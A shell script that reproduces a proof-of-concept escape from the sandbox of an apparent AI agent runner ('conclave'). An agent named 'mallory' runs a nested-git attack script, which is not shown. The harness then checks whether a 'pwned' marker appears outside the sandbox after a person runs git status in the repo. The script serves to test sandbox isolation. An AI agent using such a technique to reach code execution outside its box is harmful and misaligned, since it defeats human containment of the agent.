#!/bin/sh
# Reproduction of route A (run as root; everything that matters runs as uid 65534):
#   ./run_nested_git.sh [strict|landlock]
set -eu
HERE=$(cd "$(dirname "$0")" && pwd)
LEVEL=${1:-strict}
B=$("$HERE/setup.sh")
U="$HERE/asuser.sh $B"
$U sh -c "set -e; cd $B/home; mkdir repo; cd repo; git init -q -b main; mkdir sub; echo real > sub/file.txt; echo hi > README.md;
  git add -A; git -c user.name=p -c user.email=p@x commit -qm init"
ATTACK=$(cat "$HERE/nested_git_attack.sh")
$U /usr/bin/python3 - "$B" "$LEVEL" "$ATTACK" <<'PY'
import json, sys
b, level, attack = sys.argv[1:4]
cmd = ["sh", "-c", attack, "attack", f"{b}/out"]
open(f"{b}/home/team.toml", "w").write(f'[[agent]]\nname = "mallory"\nsandbox = "{level}"\ncommand = {json.dumps(cmd)}\n')
PY
echo "== conclave run (as uid 65534, sandbox=$LEVEL)"
$U sh -c "cd $B/home/repo && conclave run --team $B/home/team.toml --repo $B/home/repo --state-dir $B/home/state --accept-team" 2>&1 | tail -15
echo "== the person looks at the tree from the top: git status"
$U sh -c "cd $B/home/repo && git status --porcelain --ignored; echo \"(exit \$?)\""
ls -la $B/out
echo "== the person works in sub/: git status there"
$U sh -c "cd $B/home/repo/sub && git status --short >/dev/null 2>&1; true"
echo "== markers outside every box ($B/out/pwned):"
cat $B/out/pwned 2>/dev/null || echo "(none)"
echo "the person's pid ns: $(readlink /proc/self/ns/pid)"
